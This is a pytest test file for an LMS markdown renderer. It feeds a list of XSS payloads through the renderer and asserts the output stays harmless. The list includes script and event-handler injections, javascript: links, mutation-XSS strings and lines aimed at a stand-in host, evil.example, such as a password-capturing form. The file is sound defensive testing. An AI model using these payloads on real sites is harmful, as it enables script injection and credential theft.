"""What an author writes becomes HTML that can only be read."""

import json
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from lms.web.markdown import render

TAGS = {
    *("h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "ul", "ol", "li", "strong"),
    *("em", "s", "code", "pre", "a", "div", "label", "input", "span"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"href", "rel", "class", "type", "start", "scope"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](x.png 'onerror=alert(1)')",
    '[x](http://a.cn "onmouseover=alert(1)")',
    '[x](http://a.cn/"onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
    "| <script>alert(1)</script> | b |\n|--|--|\n| <img onerror=alert(1)> | `|` |",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "- [ ] [x](javascript:alert(1))",
    "<a href='x' style='position:fixed;inset:0'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<!-- --!><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "</p></div></main><script>alert(1)</script>",
]


class Reader(HTMLParser):
    """Collects every tag a browser would make, and every attribute."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(text: str) -> None:
    reader = Reader()
    reader.feed(str(render(text)))
    for tag, attributes in reader.found:
        assert tag in TAGS, (text, tag)
        assert set(attributes) <= ATTRIBUTES, (text, attributes)
        scheme = urlsplit(attributes.get("href") or "").scheme
        assert scheme in ("", "http", "https", "mailto", "tel"), (text, attributes)
        assert tag != "input" or attributes == {"type": "checkbox"}, (text, attributes)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_becomes_text(payload: str) -> None:
    assert_harmless(payload)
    assert_harmless(f"## T\n\n1. {payload}\n\n> {payload}")


def attacks(folder: Path) -> Iterator[str]:
    for name in ("XSS_Injection__RSNAKE_XSS.txt", "XSS_Injection__XSS_Polyglots.txt"):
        text = (folder / name).read_text(encoding="utf-8", errors="replace")
        yield text
        yield from text.splitlines()
    yield from json.loads((folder / "blns.json").read_text(encoding="utf-8"))


@pytest.mark.field
def test_attacks_collected_in_the_field_become_text(field_data: Path) -> None:
    collected = list(attacks(field_data / "security"))

    assert len(collected) > 500
    for attack in collected:
        assert_harmless(attack)


def test_a_checklist_can_be_ticked_and_shows_no_brackets() -> None:
    html = render("- [ ] 擦 **干净** 镜头\n- [x] 关窗\n- 说话")

    assert html.count('<label class="tick"><input type="checkbox"><span>') == 2
    assert "<strong>干净</strong> 镜头</span></label>" in html
    assert "[ ]" not in html
    assert "<li>说话</li>" in html
    assert '<ul class="checks">' in html
    assert "checked" not in html


def test_a_plain_list_is_no_checklist() -> None:
    assert str(render("- 一\n- 二")) == "<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n"


def test_a_table_scrolls_and_its_numbers_stand_right_without_a_style() -> None:
    html = render("| 货 | 元 |\n|--|--:|\n| 面 | 12 |")

    assert html.startswith('<div class="scroll">\n<table class="table">')
    assert '<td class="n">12</td>' in html
    assert '<th scope="col">货</th>' in html
    assert "style" not in html


def test_the_page_keeps_its_own_first_heading() -> None:
    assert str(render("# 开播前\n\n## 第一步")) == "<h2>开播前</h2>\n<h2>第一步</h2>\n"


def test_links_to_the_web_and_the_telephone_stay() -> None:
    html = render("[人社](https://zscx.osta.org.cn) [电话](tel:12333)")

    assert 'href="https://zscx.osta.org.cn"' in html
    assert 'href="tel:12333"' in html
    assert html.count('rel="noopener noreferrer nofollow"') == 2


def test_deep_nesting_is_answered_quickly() -> None:
    assert "<blockquote>" in render(">" * 5_000 + " x")
    assert render("[" * 20_000)
